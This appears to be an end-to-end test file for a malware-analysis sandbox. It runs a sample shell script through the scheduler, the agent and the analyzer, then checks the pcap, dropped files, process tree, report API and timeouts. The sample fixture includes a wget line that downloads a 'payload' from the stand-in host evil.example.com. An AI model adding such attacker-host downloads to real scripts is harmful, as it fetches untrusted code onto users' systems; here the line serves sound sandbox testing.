// End to end with real parts: a network namespace plays an analysis machine (`physical` driver)
// running `aviary agent`; a second address plays the internet (DNS and HTTP). A shell-script
// sample resolves a name, fetches a URL, writes a file and starts a child process. The service
// runs it through the whole engine — scheduler, result server, tcpdump, the agent protocol,
// Aviary's analyzer — and the test checks the analysis folder, the pcap (read back with tcpdump,
// the oracle) and the API. Reboot and reschedule then run again on the same guest, and an analyzer that never
// finishes meets the critical timeout.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import type { NetnsGuest } from '../guests/netns-guest'
import { startNetnsAnalysisNode } from '../guests/netns-analysis-node'
import type { Harness } from '../service-harness'
import { waitForTask, stages, submitFile } from './e2e-helpers'
import { missingConsumerFields } from '../cuckoo-report-fields'
import { schemaProblems } from '../report-contract'

const SAMPLE = `#!/bin/sh
# resolves a name, fetches a URL, writes a file and starts a child process
wget -O /tmp/page.html http://evil.example.com/payload
echo dropped-by-sample > /tmp/dropped.txt
sh -c 'sleep 1; echo from-child > /tmp/child.txt' &
wait
`

describe('an analysis on a netns guest (physical driver, aviary agent)', () => {
  let guest: NetnsGuest
  let h: Harness
  let taskId: number

  beforeAll(async () => {
    ;({ guest, h } = await startNetnsAnalysisNode({ index: 1, prefix: 'avee' }))
    taskId = await submitFile(h, 'fetcher.sh', SAMPLE, { timeout: '30' })
    await waitForTask(h, taskId, ['reported', 'failed_analysis', 'failed_processing'], 90_000)
  }, 150_000)

  afterAll(async () => {
    await h?.stop()
    await guest?.close()
  })

  it('completes, with every stage of the run on its timeline', async () => {
    const { body } = await h.json<{ task: { status: string; errors: string[]; guest: { name: string; manager: string } } }>(`/tasks/view/${taskId}`)
    expect(body.task.errors).toEqual([])
    expect(body.task.status).toBe('reported')
    expect(body.task.guest).toMatchObject({ name: 'netns1', manager: 'physical' })
    const s = await stages(h, taskId)
    for (const stage of ['queued', 'machine_locked', 'reverting', 'started', 'agent_answered', 'analyzer_started', 'finished', 'machine_stopped', 'completed', 'processing', 'reported']) {
      expect(s).toContain(stage)
    }
  })

  it('the guest really resolved the name and fetched the URL', () => {
    expect(guest.dns.queries).toContain('evil.example.com')
    expect(guest.http.requests.some((r) => r.url === '/payload' && r.host === 'evil.example.com')).toBe(true)
  })

  it('dump.pcap holds the DNS query and the HTTP request, and not the agent or result-server traffic', () => {
    const pcap = path.join(h.dataDir, 'storage/analyses', String(taskId), 'dump.pcap')
    const text = execFileSync('tcpdump', ['-n', '-r', pcap, '-A'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] })
    expect(text).toMatch(/A\? evil\.example\.com\./)
    expect(text).toContain('GET /payload HTTP/1.1')
    expect(text).not.toMatch(new RegExp(`${guest.hostIp.replace(/\./g, '\\.')}\\.8000[ :]`))
    expect(text).not.toMatch(new RegExp(`${guest.guestIp.replace(/\./g, '\\.')}\\.8000[ :]`))
  })

  it('files/ holds the dropped file and the logs show both processes', () => {
    const dir = path.join(h.dataDir, 'storage/analyses', String(taskId))
    const files = readdirSync(path.join(dir, 'files'))
    const dropped = files.find((f) => f.endsWith('_dropped.txt'))
    expect(dropped, `files/: ${files.join(', ')}`).toBeDefined()
    expect(readFileSync(path.join(dir, 'files', dropped!), 'utf8')).toBe('dropped-by-sample\n')
    const behavior = readFileSync(path.join(dir, 'logs/behavior.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>)
    const procs = behavior.filter((e) => e.type === 'process')
    const sample = procs.find((p) => String(p.command_line).includes('fetcher.sh'))
    const child = procs.find((p) => String(p.command_line).includes('sleep 1; echo from-child'))
    expect(sample, JSON.stringify(procs)).toBeDefined()
    expect(child, JSON.stringify(procs)).toBeDefined()
    expect(child!.ppid).toBe(sample!.pid)
    const log = readFileSync(path.join(dir, 'analysis.log'), 'utf8')
    expect(log).toMatch(/\[analyzer\] INFO: /)
    expect(existsSync(path.join(dir, 'task.json'))).toBe(true)
  })

  it('the API serves the pcap and the dropped files', async () => {
    const pcap = await h.get(`/pcap/get/${taskId}`)
    expect(pcap.status).toBe(200)
    const bytes = Buffer.from(await pcap.arrayBuffer())
    expect(bytes.readUInt32LE(0)).toBe(0xa1b2c3d4)
    const dropped = await h.get(`/tasks/report/${taskId}/dropped`)
    expect(dropped.status).toBe(200)
    const listing = execFileSync('tar', ['-tjf', '-'], { input: Buffer.from(await dropped.arrayBuffer()), encoding: 'utf8' })
    expect(listing).toMatch(/_dropped\.txt/)
  })

  it('is processed into report.json and report.html, served by the API', async () => {
    const { status, body } = await h.json<Record<string, Record<string, unknown>>>(`/tasks/report/${taskId}`)
    expect(status).toBe(200)
    expect(body.info).toMatchObject({ id: taskId, category: 'file' })
    expect((body.target as { file: { name: string; sha256: string } }).file.name).toBe('fetcher.sh')
    const network = body.network as { dns: { request: string }[]; http: { host: string; uri: string }[] }
    expect(network.dns.map((d) => d.request)).toContain('evil.example.com')
    expect(network.http.some((r) => r.host === 'evil.example.com' && r.uri.endsWith('/payload'))).toBe(true)
    const procs = (body.behavior as { processes: { command_line: string }[] }).processes
    expect(procs.some((p) => p.command_line.includes('fetcher.sh'))).toBe(true)
    expect((body.dropped as unknown as { name: string }[]).some((d) => d.name === 'dropped.txt')).toBe(true)
    const html = await h.get(`/tasks/report/${taskId}/html`)
    expect(html.status).toBe(200)
    expect(await html.text()).toMatch(/evil\.example\.com/)
  })

  it('fits the report schema, has every field Cuckoo report consumers read, and every report route serves it', async () => {
    const { body } = await h.json<Record<string, Record<string, unknown>>>(`/tasks/report/${taskId}`)
    expect(schemaProblems(body)).toEqual([])
    expect(missingConsumerFields(body, 'file')).toEqual([])
    expect((body.signatures as unknown as { name: string }[]).map((s) => s.name)).toContain('starts_shell')
    expect(body.info!.score).toBeGreaterThan(0)
    expect((await h.json(`/tasks/report/${taskId}/json?elements=network`)).body).toEqual(body.network)
    const summary = await h.json<Record<string, Record<string, unknown>>>(`/tasks/summary/${taskId}`)
    expect(summary.body.target).toEqual(body.target)
    expect(summary.body.behavior!.processtree).toEqual(body.behavior!.processtree)
    expect(summary.body.behavior!.processes).toBeUndefined()
    expect(summary.body.debug).toBeUndefined()
    const all = await h.get(`/tasks/report/${taskId}/all?tar=gz`)
    expect(all.status).toBe(200)
    const listing = execFileSync('tar', ['-tzf', '-'], { input: Buffer.from(await all.arrayBuffer()), encoding: 'utf8' })
    for (const entry of ['reports/report.json', 'reports/report.html', 'dump.pcap', 'analysis.log', 'logs/behavior.jsonl']) expect(listing).toContain(entry)
    expect((await h.get(`/tasks/report/${taskId}/package_files`)).status).toBe(200)
  })

  it('reschedule runs the task again on the guest', async () => {
    const r = await h.json<{ task_id: number }>(`/tasks/reschedule/${taskId}`)
    expect(r.status).toBe(200)
    const status = await waitForTask(h, r.body.task_id, ['reported', 'failed_analysis', 'failed_processing'], 90_000)
    expect(status).toBe('reported')
  }, 100_000)

  it('reboot puts the dropped files back and runs again', async () => {
    const r = await h.json<{ reboot_id: number }>(`/tasks/reboot/${taskId}`)
    expect(r.status).toBe(200)
    const id = r.body.reboot_id
    const status = await waitForTask(h, id, ['reported', 'failed_analysis', 'failed_processing'], 90_000)
    expect(status).toBe('reported')
    const log = readFileSync(path.join(h.dataDir, 'storage/analyses', String(id), 'analysis.log'), 'utf8')
    expect(log).toMatch(/putting back \/tmp\/dropped\.txt/)
  }, 100_000)

  it('a sample that cannot start: the task says why in the OS\'s words, and the report lists no process', async () => {
    const id = await submitFile(h, 'blob.bin', Buffer.from([0x00, 0x13, 0x37, 0xfe, 0xff, 0x00, 0x42]), { timeout: '20' })
    expect(await waitForTask(h, id, ['reported', 'failed_analysis', 'failed_processing'], 60_000)).toBe('reported')
    const { body } = await h.json<{ task: { errors: string[] } }>(`/tasks/view/${id}`)
    expect(body.task.errors).toEqual(['the analyzer reported failed: the sample did not start: Exec format error (ENOEXEC)'])
    const timeline = (await h.json<{ timeline: { stage: string; message: string | null }[] }>(`/tasks/timeline/${id}`)).body.timeline
    expect(timeline.find((e) => e.stage === 'finished')?.message).toBe(body.task.errors[0])
    const report = (await h.json<{ behavior: { processes: unknown[] } }>(`/tasks/report/${id}/json`)).body
    expect(report.behavior.processes).toEqual([])
  }, 90_000)

  /** The guest's machine from now on runs the analyzer folder `dir` (machines.json rewritten and reloaded). */
  function useAnalyzer(dir: string, extra: Record<string, unknown> = {}): void {
    writeFileSync(path.join(h.dataDir, 'machines.json'), JSON.stringify({
      driver: 'physical',
      interface: guest.hostIf,
      resultserver: { ip: guest.hostIp, port: 0 },
      screenshots: { interval: 0 },
      analyzers: { linux: { path: dir } },
      machines: [{ name: 'netns1', ip: guest.guestIp, platform: 'linux' }],
      ...extra
    }))
    expect(h.service.engine!.reloadConfig()).toBe(true)
  }

  it('an analyzer that never finishes hits the critical timeout: the task fails with the reason', async () => {
    // An analyzer folder of our own that never reports completion, for this guest's platform.
    const stall = mkdtempSync(path.join(tmpdir(), 'aviary-stall-'))
    writeFileSync(path.join(stall, 'analyzer.cjs'), 'setInterval(() => undefined, 60_000)\n')
    useAnalyzer(stall, { timeouts: { critical: 2 } })
    const id = await submitFile(h, 'never.sh', '#!/bin/sh\nexit 0\n', { timeout: '2' })
    expect(await waitForTask(h, id, ['completed', 'failed_analysis'], 60_000)).toBe('failed_analysis')
    const { body } = await h.json<{ task: { errors: string[] } }>(`/tasks/view/${id}`)
    expect(body.task.errors[0]).toMatch(/critical timeout: .*\(2 s\) plus the critical timeout \(2 s\)/)
    const s = await stages(h, id)
    expect(s).toEqual(expect.arrayContaining(['analyzer_started', 'timed_out', 'machine_stopped', 'failed']))
    expect(s).not.toContain('completed')
    rmSync(stall, { recursive: true, force: true })
  }, 90_000)

  it('an analyzer that dies is named at once, not after the timeout', async () => {
    const dies = mkdtempSync(path.join(tmpdir(), 'aviary-dies-'))
    writeFileSync(path.join(dies, 'analyzer.cjs'), 'setTimeout(() => process.exit(7), 500)\n')
    useAnalyzer(dies)
    const t0 = Date.now()
    const id = await submitFile(h, 'short.sh', '#!/bin/sh\nexit 0\n', { timeout: '60' })
    expect(await waitForTask(h, id, ['completed', 'reported', 'failed_analysis', 'failed_processing'], 60_000)).not.toBe('failed_analysis')
    expect(Date.now() - t0).toBeLessThan(45_000) // far from the 60 s timeout + 60 s critical
    const { body } = await h.json<{ task: { errors: string[] } }>(`/tasks/view/${id}`)
    expect(body.task.errors[0]).toMatch(/^the analyzer reported exception: the analyzer \(pid \d+\) exited with code 7 before it reported$/)
    rmSync(dies, { recursive: true, force: true })
  }, 90_000)
})

